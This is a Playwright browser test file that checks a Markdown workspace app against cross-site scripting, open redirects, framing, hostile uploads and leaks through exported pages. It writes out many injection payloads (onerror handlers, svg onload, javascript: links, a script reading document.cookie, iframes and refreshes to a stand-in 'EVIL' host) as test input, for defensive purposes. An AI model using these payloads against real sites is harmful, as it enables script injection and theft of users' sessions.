import { createServer, type Server } from 'node:http';
import { once } from 'node:events';
import { writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { createAccount, createGroup, loginAdmin, mustPost, type Account } from '../tests/_support/accounts.ts';
import { runSql } from '../tests/_support/run-sql.ts';
import { readEditor, waitForEditor } from './_support/editor.ts';
import { exportFile } from './_support/export.ts';
import { CALL, HOSTILE, MARK } from './_support/hostile.ts';
import { expect, openAs, test, watch } from './_support/journey.ts';

/** No file of this server is opened like this: those that are downloaded are. */
const ONLY_IN_FILES = `<meta http-equiv="refresh" content="0;url=http://EVIL/refresh">
<base href="http://EVIL/"><iframe src="http://EVIL/frame"></iframe><img src="http://EVIL/raw.png">
<link rel="stylesheet" href="http://EVIL/link.css"><object data="http://EVIL/object"></object>
<video src="http://EVIL/video" poster="http://EVIL/poster"></video><script src="http://EVIL/script.js"></script>
<div onmouseover="${MARK}" style="background: url(http://EVIL/div.png)">hovered</div>`;

test.describe('attacks in the browser', () => {
  let ada: Account;
  let mallory: Account;
  let uuid: string;
  let evil: Server;
  let evilOrigin: string;
  /** URLs requested from the other host. */
  let asked: string[] = [];
  let evilPage = '<p>evil</p>';

  test.beforeAll(async ({ server }) => {
    evil = createServer((request, response) => {
      asked.push(request.url ?? '');
      response.setHeader('content-type', 'text/html');
      response.end(evilPage);
    });
    evil.listen(0, '127.0.0.1');
    await once(evil, 'listening');
    evilOrigin = `http://localhost:${(evil.address() as AddressInfo).port}`;
    ada = await createAccount(server, 'Ada');
    mallory = await createAccount(server, 'Mallory');
    uuid = await createGroup('Abuse', ada, mallory);
  });
  test.beforeEach(() => {
    asked = [];
  });
  test.afterAll(() => new Promise<void>((resolve) => void evil.close(() => resolve())));

  const bare = (text: string): string => text.replaceAll('EVIL', evilOrigin.slice('http://'.length));

  async function upload(name: string, content: string): Promise<string> {
    expect((await mallory.client.upload(uuid, '', [{ name, content: bare(content) }])).status).toBe(200);
    const link = await mustPost(ada.client, '/api/workspace/get-asset-link', { workspaceUUID: uuid, path: name });
    return (link as { url: string }).url;
  }

  /** Nothing ran and nothing was requested from the other host. */
  async function expectUnharmed(page: Page, problems: string[]): Promise<void> {
    expect(await page.evaluate(() => 'abused' in globalThis)).toBe(false);
    expect(asked).toEqual([]);
    expect(problems).toEqual([]);
  }

  test('a document full of hostile markup stays text', async ({ browser }) => {
    await upload('hostile.md', HOSTILE);
    const { page, context, problems } = await openAs(browser, ada, `/workspace/${uuid}/hostile.md`);
    await waitForEditor(page);
    expect(await readEditor(page)).toBe(bare(HOSTILE));
    const content = page.locator('.cm-content').first();
    await expect(content).toBeVisible();
    // Every line is rendered at least once, and everything that looks like a link is clicked, also with Mod.
    for (let i = 0; i < 12; i += 1) {
      await page.mouse.move(400, 500);
      await page.mouse.wheel(0, 300);
      for (const link of await content.locator('a, .cm-link, [data-href]').all())
        await link
          .click({ modifiers: ['ControlOrMeta'], timeout: 500, force: true, noWaitAfter: true })
          .catch(() => undefined);
    }
    expect(await content.locator('script, iframe, form, svg[onload], details, math style, base, object').count()).toBe(
      0,
    );
    const hrefs = await page.locator('a[href]').evaluateAll((links) => links.map((link) => link.getAttribute('href')));
    expect(hrefs.filter((href) => /^\s*(javascript|data|vbscript|blob):/iu.test(href ?? ''))).toEqual([]);
    expect(context.pages().filter((other) => /javascript:|data:|localhost/u.test(other.url()))).toEqual([]);
    await expectUnharmed(page, problems);
    await context.close();
  });

  test('pasted hostile pages become plain Markdown', async ({ browser }) => {
    await upload('pasted.md', 'start\n');
    const { page, context, problems } = await openAs(browser, ada, `/workspace/${uuid}/pasted.md`);
    await waitForEditor(page);
    const html = bare(
      `<p onclick="${MARK}">words<img src=x onerror="${MARK}"><script>${MARK}</script><a href="javascript:${MARK}">l</a><svg onload=${MARK}></svg><style>@import "http://EVIL/s.css"</style></p>`,
    );
    await page
      .locator('.cm-content')
      .first()
      .evaluate((element, text) => {
        const data = new DataTransfer();
        data.setData('text/html', text);
        data.setData('text/plain', 'words');
        (element as HTMLElement).focus();
        const event = new ClipboardEvent('paste', { bubbles: true, cancelable: true });
        // Firefox creates an empty clipboardData of its own.
        Object.defineProperty(event, 'clipboardData', { value: data });
        element.dispatchEvent(event);
      }, html);
    await expect.poll(() => readEditor(page)).toContain('words');
    expect(await readEditor(page)).not.toMatch(/javascript:|<script|onerror/u);
    await expectUnharmed(page, problems);
    await context.close();
  });

  test('hostile names of users, files and the server are shown as text', async ({ browser, server }) => {
    const admin = await loginAdmin(server);
    const name = `<img src=x onerror="${MARK}">`;
    await mustPost(mallory.client, '/api/user/set-data', { displayName: name });
    await mustPost(admin.client, '/api/admin/settings/update', { key: 'app_name', value: name });
    try {
      await upload(`'><svg onload=${MARK}>.md`, 'text\n');
      const path = `/workspace/${uuid}/${encodeURIComponent(`'><svg onload=${MARK}>.md`)}`;
      const hers = await openAs(browser, mallory, path);
      await waitForEditor(hers.page);
      await hers.page.locator('.cm-content').first().click();
      const { page, context, problems } = await openAs(browser, ada, path);
      await waitForEditor(page);
      await expect(page).toHaveTitle(/svg onload/u);
      for (const other of [`/workspace/${uuid}/`, `/groups/manage/${uuid}`, '/']) {
        await page.goto(new URL(other, server.url).href);
        await expect(
          page.getByText('<img src=x', { exact: false }).or(page.getByText('svg onload')).first(),
        ).toBeAttached();
      }
      expect(await page.locator('img[src="x"], svg[onload]').count()).toBe(0);
      await expectUnharmed(page, problems);
      await hers.context.close();
      await context.close();
    } finally {
      await mustPost(admin.client, '/api/admin/settings/update', { key: 'app_name', value: 'Scriptorium' });
      await mustPost(mallory.client, '/api/user/set-data', { displayName: 'Mallory' });
    }
  });

  test('messages that echo input are text', async ({ page, server }) => {
    const problems = watch(page);
    await page.goto(`${server.url}/login`);
    await page.getByLabel('E-mail', { exact: true }).fill(`<img/src=x/onerror=${MARK}>@x.org`);
    await page.getByLabel('Password', { exact: true }).fill('certainly not this one');
    await page.getByRole('button', { name: 'Login', exact: true }).click();
    await expect(page.getByText(/Login failed|e-mail/iu).first()).toBeVisible();
    await expectUnharmed(page, problems);
  });

  test('malicious URLs lead nowhere', async ({ browser, server }) => {
    const { page, context, problems } = await openAs(browser, ada, '/');
    for (const path of [
      `/login?redirect=javascript:${MARK}`,
      `/login?redirect=${encodeURIComponent(evilOrigin)}`,
      `/login?redirect=${encodeURIComponent(`//${evilOrigin.slice(7)}`)}`,
      `/verify-email?token=<script>${MARK}</script>`,
      `/reset-password?token="><img src=x onerror=${MARK}>`,
      `/#javascript:${MARK}`,
      `/workspace/javascript:${MARK}`,
    ]) {
      await page.goto(server.url + path);
      await page.waitForLoadState('load');
      expect(new URL(page.url()).origin).toBe(server.url);
    }
    await expectUnharmed(page, problems);
    await context.close();
  });

  test('a page with a secret in its URL makes no other requests', async ({ page, server }) => {
    const hosts = new Set<string>();
    page.on('request', (request) => hosts.add(new URL(request.url()).host));
    const sent: (string | undefined)[] = [];
    page.on('request', (request) => sent.push(request.headers()['referer']));
    await page.goto(`${server.url}/reset-password?token=a-secret-in-the-address`);
    await expect(page.getByRole('link', { name: 'Request a new link' })).toBeVisible();
    expect([...hosts]).toEqual([new URL(server.url).host]);
    expect(sent.filter((referer) => referer?.includes('a-secret') === true)).toEqual([]);
  });

  test('a notification does not lead elsewhere', async ({ browser, server }) => {
    const [row] = await runSql(server, `select id from "user" where email = '${ada.email}'`);
    const bad = [
      evilOrigin,
      `//${evilOrigin.slice(7)}`,
      `javascript:${MARK}`,
      '/\\evil',
      '/%09/evil',
      '/api/auth/logout',
    ];
    const rows = bad.map(
      (url, i) => `('${crypto.randomUUID()}', '${String(row?.['id'])}', 'lure ${i}', '${url}', 0, ${Date.now() + i})`,
    );
    await runSql(
      server,
      `insert into notification (id, user_id, message, action_url, "read", created_at) values ${rows.join(',')}`,
    );
    const { page, context, problems } = await openAs(browser, ada, '/');
    await page.getByRole('button', { name: /^Notifications/u }).click();
    await expect(page.getByText('lure 0')).toBeVisible();
    const hrefs = await page
      .locator('a[href]')
      .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).href));
    expect(hrefs.filter((href) => !href.startsWith(`${server.url}/`) && !/^(https:|mailto:)/u.test(href))).toEqual([]);
    expect(hrefs.filter((href) => href.includes('evil') || href.includes('/api/'))).toEqual([]);
    for (let i = 0; i < bad.length; i += 1) {
      const lure = page.getByText(`lure ${i}`).first();
      if (await lure.isVisible()) await lure.click({ timeout: 300 }).catch(() => undefined);
      expect(new URL(page.url()).origin).toBe(server.url);
    }
    await expectUnharmed(page, problems);
    await context.close();
  });

  test.describe('beside the service worker', () => {
    test.use({ serviceWorkers: 'allow' });

    test('no file of a user runs a script', async ({ browser, server }) => {
      const { page, context } = await openAs(browser, ada, '/');
      const script = `<script>${CALL};opener&&(opener.location='http://EVIL/opener');document.title='ran '+document.cookie;navigator.serviceWorker&&navigator.serviceWorker.register('/sw.js')</script>`;
      for (const [name, content] of [
        [
          'run.html',
          `<!doctype html><title>still</title>${script}<base href="http://EVIL/"><form action="/x"></form><img src="/pixel">`,
        ],
        ['meta.html', `<title>still</title><meta http-equiv="refresh" content="0;url=http://EVIL/refresh">`],
        [
          'run.svg',
          `<svg xmlns="http://www.w3.org/2000/svg"><script>${CALL}</script><image href="http://EVIL/svg.png" onload="${MARK}"/></svg>`,
        ],
        [
          'export.html',
          `<html><head>${script}</head><body onload="${MARK}"><iframe src="http://EVIL/frame"></iframe></body></html>`,
        ],
      ] as const) {
        const link = await upload(name, content);
        await page.goto(server.url + link);
        await page.waitForLoadState('load');
        expect(await page.title()).not.toContain('ran');
        expect(new URL(page.url()).origin).toBe(server.url);
        expect(await page.evaluate(() => ['abused' in globalThis, globalThis.origin])).toEqual([false, 'null']);
        expect(asked.filter((url) => url !== '/refresh')).toEqual([]);
      }
      // An SVG embedded as an image never runs scripts, and a PDF cannot act on our origin.
      await upload(
        'acting.pdf',
        '%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n',
      );
      await page.goto(`${server.url}/workspace/${uuid}/acting.pdf`);
      await page.waitForLoadState('load');
      expect(await page.evaluate(() => 'abused' in globalThis)).toBe(false);
      expect(asked).toEqual([]);
      await context.close();
    });

    test('user files cannot be used by another site', async ({ browser, server }) => {
      const link = server.url + (await upload('used.html', MARK));
      evilPage = `<!doctype html><script>window.onerror=()=>0</script><script src="${link}"></script>
        <link rel="stylesheet" href="${link}"><iframe id="file" src="${link}"></iframe><img id="image" src="${link}">`;
      const { page, context } = await openAs(browser, ada, '/');
      await page.goto(evilOrigin);
      await page.waitForLoadState('load');
      expect(await page.evaluate(() => 'abused' in globalThis)).toBe(false);
      for (const frame of page.frames().slice(1)) expect(frame.url()).not.toBe(link);
      await context.close();
    });
  });

  test('an exported page runs nothing and asks nobody, also where it is opened from a disk', async ({ browser }) => {
    await upload('exported.md', `${HOSTILE}\n\n${ONLY_IN_FILES}`);
    const bytes = await exportFile(ada, uuid, 'exported.md', 'HTML');
    const path = test.info().outputPath('exported.html');
    writeFileSync(path, bytes);
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(`file://${path}`);
    await expect(page.getByText('styled')).toBeVisible();
    // What leaves the page leaves it soon.
    await page.waitForTimeout(500);
    expect(page.url()).toBe(`file://${path}`);
    for (const name of ['click', 'mouseover']) {
      await page.evaluate((kind) => {
        for (const element of document.querySelectorAll('[onclick], [onmouseover], a[href^="javascript:" i]'))
          element.dispatchEvent(new MouseEvent(kind, { bubbles: true, cancelable: true }));
      }, name);
    }
    expect(await page.evaluate(() => 'abused' in globalThis)).toBe(false);
    expect(asked).toEqual([]);
    // Its own pictures and styles are shown.
    expect(await page.evaluate(() => getComputedStyle(document.body).maxWidth)).not.toBe('none');
    await context.close();
  });

  test('the application cannot be framed and ignores messages from strangers', async ({ browser, server }) => {
    evilPage = `<!doctype html><iframe id="app" src="${server.url}/"></iframe>`;
    const { page, context } = await openAs(browser, ada, '/');
    await page.goto(evilOrigin);
    await page.waitForLoadState('load');
    for (const frame of page.frames().slice(1)) expect(frame.url().startsWith(server.url)).toBe(false);
    // Firefox reports the refused frame by failing the next navigation.
    await expect(() => page.goto(`${server.url}/`)).toPass();
    await expect(page.getByText('Welcome back, Ada!')).toBeVisible();
    await page.evaluate(() => {
      for (const data of [{ type: 'logout' }, 'logout', { action: 'navigate', url: 'javascript:1' }, null])
        globalThis.dispatchEvent(new MessageEvent('message', { data, origin: 'https://evil.example' }));
    });
    await expect(page.getByText('Welcome back, Ada!')).toBeVisible();
    expect((await ada.client.post('/api/user/get-data')).status).toBe(200);
    await context.close();
  });

  test('CSP violations are reported to the server, without query strings', async ({ page, server }) => {
    await page.goto(`${server.url}/login?token=a-secret`);
    await page.evaluate((address) => {
      document.body.append(Object.assign(new Image(), { src: address }));
    }, `${evilOrigin}/picture?of=a-secret`);
    const told = `"directive":"img-src","blocked":"${evilOrigin}","page":"/login"`;
    await expect.poll(() => server.log()).toContain(told);
    expect(server.log()).not.toContain('a-secret');
    expect(asked).toEqual([]);
  });

  test('the bundle has no template compiler', async ({ page, server }) => {
    await page.goto(`${server.url}/login`);
    const refused = await page.evaluate(async () => {
      const outcomes: string[] = [];
      // In a timer: code evaluated by the test itself bypasses the page's CSP.
      await new Promise<void>((resolve) => {
        setTimeout(() => {
          for (const make of ['eval', 'Function'] as const) {
            try {
              (globalThis[make] as (code: string) => unknown)('1');
              outcomes.push(`${make} ran`);
            } catch {
              outcomes.push(`${make} refused`);
            }
          }
          resolve();
        }, 0);
      });
      return outcomes;
    });
    expect(refused).toEqual(['eval refused', 'Function refused']);
  });
});
